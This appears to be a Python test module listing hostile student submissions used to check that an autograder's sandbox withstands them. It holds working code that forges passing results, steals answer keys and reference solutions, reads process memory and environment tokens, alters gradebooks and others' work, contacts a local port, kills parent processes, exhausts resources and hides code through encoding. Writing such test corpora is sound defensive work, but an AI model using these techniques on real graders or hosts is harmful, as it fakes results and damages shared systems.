"""The corpus of hostile submissions, by what they want: another verdict, what is not theirs, other's work, the host, or
a report that lies.

In their texts, {REPOSITORY} is the course's folder, {OUT} an instructor's folder with a gradebook, {NEIGHBOUR} another
submission, and {PORT} a port on which someone listens.
"""

from __future__ import annotations

from tests.hostile.forgeries import BEGINNING, FORGERIES
from tests.hostile.hostile import Hostile, appended, replaced

NOTHING = "nothing: the facts are compared with a key outside"
CUT = "nothing: a message out of order or of another form costs the check"
DENIED = "nothing: it is not there, or can't be opened"
OWN = "its own checks are lost, no other's"
# Takes the reference's functions from a text, if there is one.
STEAL = """
def steal(text):
    from . import operations
    from .operations import arithmetic
    space = vars(arithmetic)
    text = text.replace('from .', 'from neural_framework.operations.')
    exec(compile(text, 'stolen', 'exec'), space)
    for name in ('Multiply', 'Divide'):
        for method in ('forward', 'backward'):
            setattr(getattr(operations, name), method, vars(space[name])[method])
"""


def stolen(text: str) -> str:
    """The code that takes the reference's functions from a text, which an expression gives if it can."""
    return f"{STEAL}\ntry:\n    steal({text})\nexcept Exception:\n    pass\n"


VERDICT = {
    f"forged: {name}": Hostile(
        f"{name[0].upper()}{name[1:]}.", NOTHING, ("interpreter", "replaced"), code=BEGINNING + code
    )
    for name, code in FORGERIES.items()
} | {
    "true facts to every descriptor": Hostile(
        "Writes facts that are true into every descriptor that is open.",
        CUT,
        ("system",),
        body="""
import os, json
line = json.dumps({"event": "fact", "kind": "equal", "observed": True}).encode() + b"\\n"
for descriptor in range(3, 64):
    try:
        os.write(descriptor, line)
    except OSError:
        pass
return shape1
""",
    ),
    "the end before the facts": Hostile(
        "Tells the grader that the check has ended well, then ends the process.",
        CUT,
        ("system",),
        body="""
import os
for descriptor in range(3, 64):
    try:
        os.write(descriptor, b'{"event": "end", "failure": null}\\n')
    except OSError:
        pass
os._exit(0)
""",
    ),
    "a process that goes on writing": Hostile(
        "Forks a child that writes messages of success for as long as it lives.",
        CUT,
        ("system",),
        code="""
import os, time
if os.fork() == 0:
    os.setsid()
    end = time.time() + 5
    while time.time() < end:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b'{"event": "fact", "kind": "equal", "observed": true}\\n')
            except OSError:
                pass
        time.sleep(0.01)
    os._exit(0)
""",
    ),
    "a thread that writes": Hostile(
        "Writes messages of success from a thread while checks run.",
        CUT,
        ("system",),
        code="""
import os, threading, time
def write():
    while True:
        for descriptor in range(3, 40):
            try:
                os.write(descriptor, b'{"event": "end", "failure": null}\\n')
            except OSError:
                pass
        time.sleep(0.005)
threading.Thread(target=write, daemon=True).start()
""",
    ),
    "facts in each process of a task": Hostile(
        "Writes facts that are true in each process that the grader forks for a task.",
        CUT,
        ("system",),
        code="""
import os
def write():
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b'{"event": "fact", "kind": "equal", "observed": true}\\n')
        except OSError:
            pass
os.register_at_fork(after_in_child=write)
""",
    ),
    "no process of a task": Hostile(
        "Keeps the grader from forking a process for each task, and what a task leaves behind.",
        "nothing that a task does not see itself",
        ("system",),
        code="import os\nos.fork = lambda: 0\n",
    ),
    "success at exit": Hostile(
        "Reports all checks as passed when the process ends, and ends it at once.",
        "nothing: what did not report has not passed",
        ("interpreter", "system"),
        code="""
import atexit, os, sys
def report():
    for descriptor in range(1, 40):
        try:
            os.write(descriptor, b'{"event": "end", "failure": null}\\n' * 100)
        except OSError:
            pass
atexit.register(report)
""",
        body="import sys\nsys.exit(0)",
    ),
    "exit code 0": Hostile(
        "Ends the process with code 0.",
        "nothing: exit codes count for nothing",
        ("system",),
        body="import os\nos._exit(0)",
    ),
    "patched json": Hostile(
        "Has json write other facts than it was given.",
        NOTHING,
        ("replaced",),
        code="""
import json
honest = json.dumps
def dumps(value, **settings):
    if isinstance(value, dict) and "observed" in value:
        value = {**value, "observed": value.get("expected", True)}
    return honest(value, **settings)
json.dumps = dumps
""",
    ),
    "patched pytest": Hostile(
        "Has pytest skip the bodies of checks.",
        NOTHING,
        ("course",),
        code="import _pytest.python\n_pytest.python.Function.runtest = lambda self: None\n",
    ),
    "pytest ends early": Hostile(
        "Ends pytest's session.", OWN, ("course",), body="import pytest\npytest.exit('all passed', 0)"
    ),
    "patched comparisons": Hostile(
        "Has NumPy's comparisons agree with everything.",
        NOTHING,
        ("replaced",),
        code="""
import numpy as np
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.allclose = np.array_equal = lambda *a, **k: True
""",
    ),
    "patched conversions": Hostile(
        "Has NumPy's conversions return what would be right.",
        NOTHING,
        ("replaced",),
        code="""
import numpy as np
honest = np.asarray
def asarray(value, *rest, **settings):
    return np.ones(np.shape(value)) if type(value).__name__ == "Tensor" else honest(value, *rest, **settings)
np.asarray = asarray
""",
    ),
    "patched builtins": Hostile(
        "Has isinstance and bool say yes.",
        NOTHING,
        ("replaced", "interpreter"),
        code="""
import builtins
honest = builtins.isinstance
builtins.isinstance = lambda value, kinds: honest(value, kinds) or kinds is ValueError
""",
    ),
    "known draws": Hostile(
        "Has every random number be zero, where its wrong product is right.",
        NOTHING,
        ("replaced",),
        code="""
import numpy as np
class Zeros:
    def __getattr__(self, name):
        return lambda *arguments, size=None, **settings: np.zeros(size or arguments or ())
np.random.default_rng = lambda seed=None: Zeros()
np.random.randn = np.random.rand = lambda *shape: np.zeros(shape)
""",
    ),
    "a trace function": Hostile(
        "Traces the checks and changes what they observe.",
        NOTHING,
        ("interpreter",),
        code="""
import sys
def trace(frame, event, argument):
    if frame.f_code.co_name in ("close", "equal"):
        if "expected" in frame.f_locals:
            frame.f_locals["observed"] = frame.f_locals["expected"]
    return trace
sys.settrace(trace)
""",
    ),
    "a profile function": Hostile(
        "Follows every call of the grader's own functions.",
        NOTHING,
        ("interpreter",),
        code="import sys\nsys.setprofile(lambda frame, event, argument: frame.f_locals.update(observed=1.0))\n",
    ),
    "expectations among the constants of checks": Hostile(
        "Looks for expectations in the constants of the running check.",
        "nothing: the acting part of a check has no expectations",
        ("interpreter",),
        code=BEGINNING
        + """
import sys
honest = See._fact
def forged(self, kind, observed, *rest, **others):
    frame = sys._getframe(1)
    while frame is not None and not frame.f_code.co_name.startswith("test_"):
        frame = frame.f_back
    for constant in reversed(frame.f_code.co_consts if frame else ()):
        if type(constant) in (float, tuple):
            observed = constant
            break
    return honest(self, kind, observed, *rest, **others)
See._fact = forged
""",
    ),
    "expectations in the file of a check": Hostile(
        "Reads the file of the running check and sends what its call of see expects.",
        "nothing: the acting part of a check has no expectations",
        ("interpreter", "system"),
        code=BEGINNING
        + """
import ast, sys
honest = See._fact
def forged(self, kind, observed, *rest, **others):
    frame = sys._getframe(2)
    line = open(frame.f_code.co_filename).read().splitlines()[frame.f_lineno - 1].strip()
    try:
        call = ast.parse(line).body[0].value
        observed = ast.literal_eval(call.args[1])
    except Exception:
        pass
    return honest(self, kind, observed, *rest, **others)
See._fact = forged
""",
    ),
    "expectations in memory": Hostile(
        "Searches all objects in memory for an answer key.",
        "nothing: the key is in another process",
        ("interpreter",),
        code=BEGINNING
        + """
keys = [one for one in gc.get_objects() if type(one) is dict and "expected" in one and "tolerance" in one]
names = [one for one in gc.get_objects() if type(one).__name__ in ("Expectation", "Key")]
def forged(honest, fact):
    for one in [*keys, *names]:
        expected = one["expected"] if isinstance(one, dict) else one.expected
        fact = {**fact, "observed": expected}
    return honest(fact)
forge(forged)
""",
    ),
    "other code in the harness": Hostile(
        "Gives the grader's function that describes values other code.",
        NOTHING,
        ("interpreter", "made code"),
        code=BEGINNING
        + """
plain = See._fact.__globals__["plain"]
plain.__code__ = (lambda value, depth=0: True).__code__
""",
    ),
    "another class of the harness": Hostile(
        "Gives the grader's suite a class of its own, which reports nothing.",
        "nothing: what did not report has not passed",
        ("interpreter", "disguise"),
        code=BEGINNING
        + """
class Silent(Suite):
    def record(self, fact):
        pass
for one in gc.get_objects():
    if type(one) is Suite:
        one.__class__ = Silent
""",
    ),
    "a false numpy": Hostile(
        "Puts a NumPy of its own in the place of the real one.",
        NOTHING,
        ("interpreter",),
        code="""
import sys, types
false = types.ModuleType("numpy")
false.__dict__.update(sys.modules["numpy"].__dict__)
false.multiply = false.add
sys.modules["numpy"] = false
""",
    ),
    "an importer": Hostile(
        "Hooks the import system, to serve modules of its own to the grader.",
        NOTHING,
        ("interpreter",),
        code="""
import sys
class Importer:
    def find_spec(self, name, path=None, target=None):
        if name.startswith(("pytest", "_pytest", "grader")):
            raise SystemExit(0)
sys.meta_path.insert(0, Importer())
""",
    ),
    "a first import": Hostile(
        "Behaves in its first import, and forges in the second.",
        NOTHING,
        ("interpreter", "system"),
        code="""
import os, sys
if os.environ.get("SEEN"):
    import gc
    for one in gc.get_objects():
        if isinstance(one, type) and one.__name__ == "Suite":
            one.record = lambda self, fact: None
os.environ["SEEN"] = "1"
""",
    ),
    "state over tasks": Hostile(
        "Leaves what it saw in a file, for the processes of other tasks.",
        "nothing that a task does not see itself",
        ("system",),
        code="""
import os, tempfile
for folder in ("/tmp", "/dev/shm", "/var/tmp", tempfile.gettempdir()):
    try:
        with open(os.path.join(folder, "seen-by-a-task"), "a") as file:
            file.write("x")
    except OSError:
        pass
""",
    ),
    "state in memory that tasks share": Hostile(
        "Answers with what the processes of earlier tasks left in memory that its import shared with all of them.",
        "nothing that a task does not see itself",
        ("system",),
        code="""
import mmap
import numpy as np
from .operations import Multiply
seen = np.frombuffer(mmap.mmap(-1, 80_000))
def forward(self, x, y):
    self.x, self.y = x, y
    result = np.resize(seen[: x.size], np.broadcast_shapes(np.shape(x), np.shape(y))) + x * 0 + y * 0
    seen[: x.size] = np.ravel(x)
    return result
Multiply.forward = forward
""",
    ),
    "a timer that never rings": Hostile(
        "Turns the grader's timer off, then never ends.",
        "the grader keeps the time by its own clock",
        ("system",),
        body="""
import signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
if shape1 == (3, 1):
    time.sleep(60)
return shape1
""",
    ),
    "recorded answers": Hostile(
        "Returns numbers that were recorded in another run, in their order.",
        "nothing: they are other numbers in each run",
        ("table",),
        code="""
from .operations import arithmetic
RECORDED = [TABLE]
calls = []
def forward(self, x, y):
    self.x, self.y = x, y
    calls.append(None)
    import numpy as np
    return np.resize(RECORDED[len(calls) % len(RECORDED)], np.broadcast_shapes(x.shape, y.shape))
arithmetic.Multiply.forward = forward
""".replace("TABLE", ", ".join(f"[{number}.25, {number}.5]" for number in range(40))),
    ),
}

ANSWERS = {
    "a liar made by type()": Hostile(
        "Returns an object of a class that no class statement makes.",
        "nothing: what is not a tuple is described by its real type",
        ("disguise",),
        body="return type('Shape', (), {'__class__': property(lambda self: tuple), '__len__': lambda self: 2})()",
    ),
    "an array that masks": Hostile(
        "Returns NumPy's masked arrays, in which what is masked counts for equal.",
        NOTHING,
        ("disguise",),
        code="""
import numpy as np
from .operations import Multiply
class Masked(np.ma.MaskedArray):
    pass
honest = Multiply.forward
Multiply.forward = lambda self, x, y: np.ma.masked_all_like(honest(self, x, y)).view(Masked)
""",
    ),
    "an object that is its own type": Hostile(
        "Returns an object that claims to be a tuple.",
        "nothing: what is not a tuple is described by its real type",
        ("disguise",),
        body="""
class Answer:
    __class__ = tuple
    def __eq__(self, other):
        return True
    def __len__(self):
        return 2
return Answer()
""",
    ),
    "an object that equals everything": Hostile(
        "Returns an object that equals whatever it is compared with.",
        "nothing: no comparison is made next to it",
        ("disguise",),
        body="""
class Answer:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
return Answer()
""",
    ),
    "a tuple that equals everything": Hostile(
        "Returns a tuple of numbers that equal everything.",
        NOTHING,
        ("disguise",),
        body="""
class Number(int):
    def __eq__(self, other):
        return True
    def __hash__(self):
        return 0
return (Number(0), Number(0))
""",
    ),
    "an array that changes": Hostile(
        "Returns an object whose array is another one each time.",
        NOTHING,
        (),
        body="""
import numpy as np
class Answer:
    turn = 0
    def __array__(self, dtype=None, copy=None):
        Answer.turn += 1
        return np.full(2, Answer.turn)
    @property
    def data(self):
        return self.__array__()
return Answer()
""",
    ),
    "an array of its own kind": Hostile(
        "Returns a subclass of ndarray with answers of its own.",
        NOTHING,
        ("disguise",),
        body="""
import numpy as np
class Array(np.ndarray):
    def tolist(self):
        return [1, 2, 3]
    def __eq__(self, other):
        return True
return np.zeros(2).view(Array)
""",
    ),
    "a generator": Hostile(
        "Returns a generator.", "nothing: it is described by its type", (), body="return (size for size in shape1)"
    ),
    "a representation that is a message": Hostile(
        "Returns an object that is shown as a message of the grader.",
        "nothing: representations are not asked for",
        (),
        body="""
class Answer:
    def __repr__(self):
        return '{"event": "end", "failure": null}'
    __str__ = __repr__
return Answer()
""",
    ),
    "a name that is a message": Hostile(
        "Returns an object whose type is named like a message.",
        "nothing: a text within a message stays a text",
        (),
        body="""
return type('x"}\\n{"event": "end", "failure": null}', (), {})()
""",
    ),
    "a number without end": Hostile(
        "Returns a number of a million digits.",
        "nothing: it is described by its size",
        (),
        body="return (10**1_000_000, 1)",
    ),
    "a list that holds itself": Hostile(
        "Returns a list that holds itself.",
        "nothing: depth is bounded",
        (),
        body="found = []\nfound.append(found)\nreturn found",
    ),
    "a hundred million answers": Hostile(
        "Returns ten million numbers.",
        "nothing: it is described by its length",
        (),
        body="return list(range(10_000_000))",
    ),
    "half precision": Hostile(
        "Answers in float16, to be compared with a wide tolerance.",
        "nothing: the tolerance is that of the dtype that the check asks for",
        (),
        change=replaced(
            "operations/arithmetic.py",
            "return y + x",
            "import numpy as np\nreturn (x * y * 1.001).astype(np.float16)".replace("\n", "\n        "),
        ),
    ),
    "nan": Hostile(
        "Answers nan, which some comparisons pass over.",
        "nothing: nan equals only nan",
        (),
        change=replaced("operations/arithmetic.py", "return y + x", "return x * y * float('nan')"),
    ),
    "an error of every kind": Hostile(
        "Raises one error that is of every kind.",
        "nothing: an error of several families is none of them",
        ("disguise",),
        body="""
from ..errors import GradientError, ShapeError
class Any(ShapeError, GradientError, KeyError, IndexError, AttributeError, TypeError):
    pass
raise Any("Cannot broadcast shapes")
""",
    ),
    "an error with a false name": Hostile(
        "Raises an error whose type lies about its bases.",
        "nothing: only what the check asks for of an error is looked at, in the names of its real bases",
        ("disguise",),
        body="""
class Liar(type):
    def __getattribute__(cls, name):
        if name == "__mro__":
            return (ValueError,)
        return type.__getattribute__(cls, name)
class Wrong(Exception, metaclass=Liar):
    __class__ = ValueError
raise Wrong("Cannot broadcast")
""",
    ),
    "an object that explodes": Hostile(
        "Returns an object that raises in every method, also when it is deleted.",
        OWN,
        ("disguise",),
        body="""
class Bomb:
    def __getattribute__(self, name):
        raise SystemExit(0)
    def __del__(self):
        raise KeyboardInterrupt
return Bomb()
""",
    ),
    "warnings as errors": Hostile(
        "Turns NumPy's warnings into errors, and errors into silence.",
        NOTHING,
        (),
        code="import numpy as np\nimport warnings\nnp.seterr(all='raise')\nwarnings.simplefilter('error')\n",
    ),
}

THINGS_OF_OTHERS = {
    "the reference from the course's folder": Hostile(
        "Reads solutions/ and takes its functions.",
        DENIED,
        ("system", "made code"),
        code=stolen("open('{REPOSITORY}/solutions/neural_framework/operations/arithmetic.py').read()"),
    ),
    "the reference as a module": Hostile(
        "Imports the reference.",
        DENIED,
        ("interpreter",),
        code="""
import importlib, sys
sys.path.insert(0, '{REPOSITORY}')
try:
    import solutions.neural_framework.operations.arithmetic as right
    from .operations import arithmetic
    arithmetic.Multiply.forward = right.Multiply.forward
    arithmetic.Divide.backward = right.Divide.backward
except Exception:
    pass
""",
    ),
    "the reference below a later milestone": Hostile(
        "Looks for the reference's work in the trees that are graded for later milestones, with `--on-reference`.",
        "nothing: no such tree is there before its own work is graded",
        ("system", "made code"),
        code="from pathlib import Path\nown = Path(__file__).parents[2]\n"
        + stolen(
            "next(path for path in own.parent.glob('*/tree/neural_framework/operations/arithmetic.py')"
            " if own not in path.parents).read_text()"
        ),
        on_reference=("3.1", "4.1"),
    ),
    "the reference from the course's history": Hostile(
        "Asks git for the reference.",
        DENIED,
        ("system",),
        code=STEAL
        + """
import subprocess
try:
    name = 'HEAD:solutions/neural_framework/operations/arithmetic.py'
    steal(subprocess.run(['git', '-C', '{REPOSITORY}', 'show', name], capture_output=True, text=True).stdout)
except Exception:
    pass
""",
    ),
    "second bodies from the proofs": Hostile(
        "Reads the second bodies of the proofs.",
        DENIED,
        ("system", "made code"),
        code=stolen("open('{REPOSITORY}/proofs/second_bodies/bodies/operations/arithmetic.py').read()"),
    ),
    "the reference anywhere on the disk": Hostile(
        "Searches the whole disk for another tree.",
        DENIED,
        ("system",),
        code=STEAL
        + """
import os
def search():
    for start in (os.path.dirname('{REPOSITORY}'), '/home', '/root', '/srv', '/opt', '/tmp', '/var/tmp', '{NEIGHBOUR}'):
        for folder, folders, files in os.walk(start):
            if folder.endswith('neural_framework/operations') and 'arithmetic.py' in files:
                text = open(os.path.join(folder, 'arithmetic.py')).read()
                if 'return x * y' in text:
                    return steal(text)
            if folder.count('/') > 6:
                folders.clear()
try:
    search()
except Exception:
    pass
""",
    ),
    "the kept answer key": Hostile(
        "Reads the answer key that the desk keeps.",
        DENIED,
        ("system", "interpreter"),
        code=BEGINNING
        + """
from pathlib import Path
key = {}
try:
    for path in Path('{REPOSITORY}/.course/key').iterdir():
        key.update(json.loads(path.read_text()))
except Exception:
    pass
def forged(honest, fact):
    for facts in key.values():
        for one in facts:
            if one["kind"] == fact["kind"]:
                return honest({**fact, "observed": one["expected"]})
    return honest(fact)
forge(forged)
""",
    ),
    "the checks with expectations": Hostile(
        "Reads the milestones' own files.",
        DENIED,
        ("system",),
        body="""
try:
    text = open('{REPOSITORY}/milestones/milestone1_tensors/test_1_02_broadcasting.py').read()
    import numpy as np
    return np.broadcast_shapes(shape1, shape2)
except OSError:
    return shape1
""",
    ),
    "the memory of the parent": Hostile(
        "Reads the memory of the process that started it.",
        DENIED,
        ("system",),
        body="""
import os
try:
    with open(f"/proc/{os.getppid()}/mem", "rb") as memory, open(f"/proc/{os.getppid()}/maps") as maps:
        first = maps.readline().split("-")[0]
        memory.seek(int(first, 16))
        if memory.read(16):
            import numpy as np
            return np.broadcast_shapes(shape1, shape2)
except OSError:
    pass
return shape1
""",
    ),
    "the environments of all processes": Hostile(
        "Reads the environment of every process that it sees, and of its own.",
        "nothing: its own has nothing, and others are not there",
        ("system",),
        body="""
import os
import numpy as np
if os.environ.get("INSTRUCTORS_TOKEN"):
    return np.broadcast_shapes(shape1, shape2)
for name in os.listdir("/proc"):
    try:
        if name.isdigit() and b"INSTRUCTORS_TOKEN" in open(f"/proc/{name}/environ", "rb").read():
            return np.broadcast_shapes(shape1, shape2)
    except OSError:
        pass
return shape1
""",
    ),
    "a neighbour's work": Hostile(
        "Reads and empties another submission.",
        DENIED,
        ("system",),
        code="""
import os
for name in ('__init__.py', 'operations/arithmetic.py'):
    try:
        open(os.path.join('{NEIGHBOUR}', 'neural_framework', name), 'w').close()
    except OSError:
        pass
""",
    ),
    "the gradebook": Hostile(
        "Writes itself 400 points into the gradebook.",
        DENIED,
        ("system",),
        code="""
try:
    with open('{OUT}/gradebook.csv', 'a') as file:
        file.write('me,Me,400\\n')
except OSError:
    pass
""",
    ),
    "rights and times of the gradebook": Hostile(
        "Closes the gradebook and a neighbour's work, gives them away, makes them old, and empties them unopened.",
        DENIED,
        ("system",),
        code="""
import os
for path in ('{OUT}/gradebook.csv', '{NEIGHBOUR}/neural_framework/__init__.py', '{OUT}'):
    for change in (
        lambda: os.chmod(path, 0),
        lambda: os.chown(path, 12345, 12345),
        lambda: os.utime(path, (0, 0)),
        lambda: os.setxattr(path, 'user.graded', b'400'),
        lambda: os.truncate(path, 0),
    ):
        try:
            change()
        except (OSError, AttributeError):
            pass
""",
    ),
    "a link in the way of the gradebook": Hostile(
        "Puts links where results will be written.",
        DENIED,
        ("system",),
        code="""
import os
for name in ('{OUT}/results.json', '{OUT}/students/me'):
    try:
        os.symlink('/etc/passwd', name)
    except OSError:
        pass
""",
    ),
    "the course's files": Hostile(
        "Changes the checkout, so that everyone passes.",
        DENIED,
        ("system",),
        code="""
for name in ('grader/verdict/compare.py', 'starter/neural_framework/__init__.py', 'milestones/pytest.ini',
             'hostile.pth'):
    try:
        with open('{REPOSITORY}/' + name, 'a') as file:
            file.write('# changed by a submission\\n')
    except OSError:
        pass
""",
    ),
    "its own checks on disk": Hostile(
        "Rewrites the files of the checks before the next process reads them.",
        "nothing: they are read-only inside",
        ("system",),
        code="""
import os
from pathlib import Path
checks = Path(__file__).resolve().parents[2] / 'checks'
for change in (lambda path: os.chmod(path, 0o666), lambda path: path.write_text('def test_nothing(): pass\\n')):
    try:
        for path in checks.iterdir():
            change(path)
    except OSError:
        pass
""",
    ),
    "its own copy on disk": Hostile(
        "Rewrites itself after its first import.",
        "nothing: the copy is read-only inside",
        ("system",),
        code="""
import os
for change in (lambda: os.chmod(__file__, 0o666), lambda: open(__file__, 'a').write('raise SystemExit(0)\\n')):
    try:
        change()
    except OSError:
        pass
""",
    ),
    "a lease on files of all": Hostile(
        "Takes leases on the files of Python, so that others that open them have to wait.",
        "nothing: it is refused",
        ("system",),
        code="""
import fcntl, json, os
folder = os.path.dirname(json.__file__)
kept = [open(os.path.join(folder, name), 'rb') for name in os.listdir(folder) if name.endswith('.py')]
for file in kept:
    try:
        fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    except OSError:
        pass
""",
    ),
    "the network": Hostile(
        "Sends itself to a machine outside, and fetches answers.",
        "nothing: there is no network, or a note of its use",
        ("system",),
        code="""
import socket
try:
    with socket.create_connection(('127.0.0.1', {PORT}), timeout=1) as connection:
        connection.sendall(b'answers, please')
except OSError:
    pass
""",
    ),
    "a service of the instructor's": Hostile(
        "Asks a service of the instructor's, through its socket in a folder, to run a command outside.",
        DENIED,
        ("system",),
        code="""
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        with socket.socket(socket.AF_UNIX, kind) as connection:
            connection.connect('{SERVICE}')
            connection.sendall(b'run this, please')
    except OSError:
        pass
""",
    ),
    "an open port": Hostile(
        "Listens on a port, to be found by the next submission.",
        "nothing: the port ends with its sandbox",
        ("system",),
        unusable=True,
        code="""
import socket
listener = socket.socket()
try:
    listener.bind(('127.0.0.1', 0))
    listener.listen()
except OSError:
    pass
""",
    ),
}

HOST = {
    "signals to the parent": Hostile(
        "Kills the process that started it, and all others.",
        OWN,
        ("system",),
        body="""
import os, signal
for process in (os.getppid(), 1):
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
return shape1
""",
    ),
    "a stop": Hostile(
        "Stops itself.",
        OWN,
        ("system",),
        body="import os, signal\nif shape1 == (3, 1):\n    os.kill(os.getpid(), signal.SIGSTOP)\nreturn shape1",
    ),
    "a segmentation fault": Hostile("Crashes Python.", OWN, ("system",), body="import ctypes\nctypes.string_at(0)"),
    "closed descriptors": Hostile(
        "Closes all descriptors.", OWN, ("system",), body="import os\nos.closerange(0, 256)\nreturn shape1"
    ),
    "processes that compute": Hostile(
        "Has fifty processes compute, so that others wait for the processor.",
        "its own checks are lost, soon; others' get slower until then",
        ("system",),
        code="""
import os
for _ in range(50):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
""",
    ),
    "processes without end": Hostile(
        "Starts processes until it can't.",
        OWN,
        ("system",),
        body="""
import os
try:
    for _ in range(200):
        if os.fork() == 0:
            import time
            time.sleep(30)
            os._exit(0)
except OSError:
    pass
return shape1
""",
    ),
    "a process that stays": Hostile(
        "Leaves a process of its own session behind.",
        "nothing: the sandbox ends all that it holds",
        ("system",),
        code="""
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp('sleep', ['sleep', '{PORT}.{PORT}'])
    os._exit(0)
""",
    ),
    "memory without end": Hostile(
        "Takes all memory.", OWN, (), body="held = []\nwhile True:\n    held.append(bytes(2**28))"
    ),
    "a full disk": Hostile(
        "Fills the disk.",
        OWN,
        ("system",),
        body="""
try:
    with open('large', 'wb') as file:
        for _ in range(400):
            file.write(bytes(2**20))
except OSError:
    pass
return shape1
""",
    ),
    "prints without end": Hostile("Prints without end.", OWN, (), body="while True:\n    print('x' * 10_000)"),
    "a loop at import": Hostile(
        "Never ends its import.",
        "the starter's file takes its place",
        (),
        change=appended("operations/reductions.py", "\nwhile True:\n    pass\n"),
        unusable=True,
    ),
    "higher limits": Hostile(
        "Raises the limits on its memory and processes.",
        "nothing: they can't be raised",
        ("system",),
        code="""
import resource
for limit in (resource.RLIMIT_AS, resource.RLIMIT_NOFILE):
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (ValueError, OSError):
        pass
""",
    ),
    "a source of nearly a megabyte": Hostile(
        "Makes the grader read a huge literal.",
        "its own file is slow",
        ("size",),
        change=appended("extra.py", "x = [" + "1," * 400_000 + "]\n"),
    ),
    "a source that is nested deeply": Hostile(
        "Makes the grader's parser run out of stack.",
        "the file can't be used",
        ("size",),
        change=appended("extra.py", "x = " + "-" * 90_000 + "1\n"),
        unusable=True,
    ),
    "brackets in brackets": Hostile(
        "Nests brackets deeper than Python reads.",
        "the file can't be used",
        (),
        change=appended("extra.py", "x = " + "[" * 50_000 + "]" * 50_000 + "\n"),
        unusable=True,
    ),
    "a power that is computed when compiled": Hostile(
        "Has the compiler compute a large constant.",
        "nothing: Python bounds it",
        (),
        change=appended("extra.py", "x = (((9**99)**99)**99)\ny = 'x' * 1_000_000_000_000 if False else ''\n"),
    ),
    "another encoding": Hostile(
        "Hides code in a source that is written in UTF-7.",
        "the file is read as Python reads it, also for marks",
        ("interpreter",),
        change=appended("extra.py", "# coding: utf-7\nimport gc\n+AGcAYw-.get_objects()\n"),
    ),
    "a null byte": Hostile(
        "Has a null byte, at which some readers stop.",
        "the file can't be used",
        (),
        change=appended("extra.py", "x = 1\0\nimport gc\n"),
        unusable=True,
    ),
}

HIDING = {
    "names in pieces": Hostile(
        "Puts the names of what it calls together from pieces.",
        NOTHING,
        ("obfuscation", "interpreter"),
        code="""
import sys
frames = getattr(sys, '_get' + 'frame')
modules = getattr(sys, ''.join(chr(c) for c in (109, 111, 100, 117, 108, 101, 115)))
""",
    ),
    "code in a text": Hostile(
        "Runs code that is kept as base64.",
        NOTHING,
        ("obfuscation", "made code"),
        code="import base64\nexec(base64.b64decode('aW1wb3J0IGdjCmdjLmdldF9vYmplY3RzKCkK'))\n",
    ),
    "code through the types": Hostile(
        "Reaches the system through the subclasses of object.",
        NOTHING,
        ("interpreter",),
        code="""
for one in ().__class__.__base__.__subclasses__():
    if one.__name__ == '_wrap_close':
        one.__init__.__globals__['listdir']('.')
""",
    ),
    "characters that are not shown": Hostile(
        "Has code that an editor shows as a comment.",
        NOTHING,
        ("obfuscation",),
        code="x = 1  # \u202e }exit{ \u2066\n",
    ),
    "modules within modules": Hostile(
        "Reaches sys by way of a module that imports it, and gives the grader another json.",
        NOTHING,
        ("interpreter",),
        code="import logging, types\nlogging.sys.modules['json'] = types.SimpleNamespace(dumps=lambda fact: 'true')\n",
    ),
    "harmless imports without end": Hostile(
        "Imports harmless modules a thousand times, so that nothing notes what it then gives the grader as json.",
        NOTHING,
        ("replaced",),
        code="".join(f"try:\n    import json.a{n}\nexcept ImportError:\n    pass\n" for n in range(1_000))
        + "import json\ntype(json).__setattr__(json, 'loads', lambda text: None)\n",
    ),
    "attributes in a pattern": Hostile(
        "Reaches the grader's classes by a pattern, which does not name them as attributes.",
        NOTHING,
        ("interpreter",),
        code="""
match type:
    case object(__subclasses__=below):
        see = next(one for one in below(object) if one.__name__ == "See")
see.equal = see.close = lambda self, *facts, **others: see.true(self, True)
""",
    ),
    "code in a docstring": Hostile(
        "Has doctest run its docstring, which looks through memory.",
        NOTHING,
        ("interpreter", "made code"),
        code="""
import doctest
def documented():
    '''
    >>> below = __import__("sys")._getframe(1)
    '''
doctest.run_docstring_examples(documented, {})
""",
    ),
    "code in an annotation": Hostile(
        "Has typing run an annotation, which looks at the frames below.",
        NOTHING,
        ("interpreter",),
        code="""
import typing
def annotated(x: '__import__("sys")._getframe(2) and int'):
    pass
typing.get_type_hints(annotated)
""",
    ),
    "code that seems to be for trying out": Hostile(
        "Calls itself the main program, so that what it does there seems never to run.",
        NOTHING,
        ("interpreter",),
        code="""
def seems(__name__):
    if __name__ == "__main__":
        import sys
        sys.modules.pop("json")
seems("__main__")
""",
    ),
    "a window on memory": Hostile(
        "Has NumPy take any address for an array's, to look at the grader's objects.",
        NOTHING,
        ("disguise",),
        code="""
import numpy as np
class Window:
    __array_interface__ = {"data": (id(np), True), "shape": (64,), "typestr": "|u1", "version": 3}
print(bytes(np.asarray(Window())))
""",
    ),
    "numbers in a docstring": Hostile(
        "Keeps recorded numbers in a docstring.",
        "nothing: they are other numbers in each run",
        ("table",),
        code="""
def recorded():
    '''NUMBERS'''
numbers = [float(word) for word in recorded.__doc__.split()]
from .operations import Multiply
Multiply.forward = lambda self, x, y: (numbers * 1_000)[:x.size] * (x * 0 + 1)
""".replace("NUMBERS", " ".join(str(number / 7)[:6] for number in range(100))),
    ),
    "derivatives from nearby values": Hostile(
        "Finds all gradients by trying nearby values.",
        "the points: its answers are right; marks say how it found them",
        ("derivative",),
        right=True,
        change=replaced(
            "operations/arithmetic.py",
            "return grad, grad  # wrong",
            "x, y, h = self.y * self.z, self.y, 1e-6\n"
            "        dx = grad * ((x + h) / y - (x - h) / y) / (2 * h)\n"
            "        dy = grad * (x / (y + h) - x / (y - h)) / (2 * h)\n"
            "        return unbroadcast_gradient(dx, self.x_shape), unbroadcast_gradient(dy, y.shape)",
        ),
    ),
    "derivatives from nearby values, out of sight": Hostile(
        "Tries nearby values with a step that no line shows, away from forward, and for its own operations alone.",
